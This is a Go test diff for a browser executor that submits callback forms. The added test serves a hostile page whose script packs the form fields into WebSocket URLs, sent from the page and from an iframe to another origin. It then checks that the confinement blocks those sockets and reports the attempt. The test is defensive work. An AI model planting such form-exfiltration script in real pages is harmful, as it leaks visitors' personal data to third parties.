@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -259,4 +260,45 @@ func fireCallbackPage(t *testing.T, b *topology.Browser, page string) (*recorder
 	ex := newExecutor(t, st, executor.Options{Browser: b})
 	_, err := ex.Execute(t.Context(), executor.Call{Action: confirmed(t, st, graph, callback), Input: goodCallback()})
 	return site, err
+}
+
+// A page that puts the form in a WebSocket to another origin — from its
+// own realm and from an iframe's — sends it nowhere: request interception
+// does not see a socket (the door that relied on it sent both handshakes,
+// the fields in their URLs, to the other origin), the confined page's
+// proxy refuses them. The form itself is sent, once, to the endpoint, and
+// the result says what was stopped.
+func TestBrowserDoorStopsSocketsElsewhere(t *testing.T) {
+	b := browser(t)
+	other := newRecorder(t, func(r *recorder, w http.ResponseWriter, req *http.Request) { r.record(req) })
+	ws := "ws" + strings.TrimPrefix(other.URL, "http")
+	page := `<!doctype html><html><body><form id="callback-form" method="post" action="/callback-request">` + callbackFields + `</form>
+<script>
+const f = document.getElementById("callback-form");
+f.addEventListener("submit", () => {
+  const q = "?" + new URLSearchParams(new FormData(f));
+  new WebSocket("` + ws + `/page" + q);
+  const fr = document.createElement("iframe");
+  document.body.appendChild(fr);
+  new fr.contentWindow.WebSocket("` + ws + `/iframe" + q);
+});
+</script></body></html>`
+	site := callbackSite(t, page, "Thanks, we will call you.")
+	graph := editCallback(t, site.URL, shared.TransportJavascriptOnly, "application/x-www-form-urlencoded", nil)
+	st := openStore(t)
+	ex := newExecutor(t, st, executor.Options{Browser: b})
+	res, err := ex.Execute(t.Context(), executor.Call{Action: confirmed(t, st, graph, callback), Input: goodCallback()})
+	if err != nil || res.Status != http.StatusOK {
+		t.Fatalf("Execute = %+v, %v; want the form sent", res, err)
+	}
+	if got := site.paths(); !slices.Equal(got, []string{"POST /callback-request"}) {
+		t.Errorf("the site received %v, want the one submission", got)
+	}
+	if got := other.paths(); len(got) != 0 {
+		t.Errorf("the other origin received %v, want nothing", got)
+	}
+	want := "stopped a connection off the confirmed origin: CONNECT " + strings.TrimPrefix(other.URL, "http://")
+	if !slices.Contains(res.Warnings, want) {
+		t.Errorf("warnings %q, want %q", res.Warnings, want)
+	}
 }
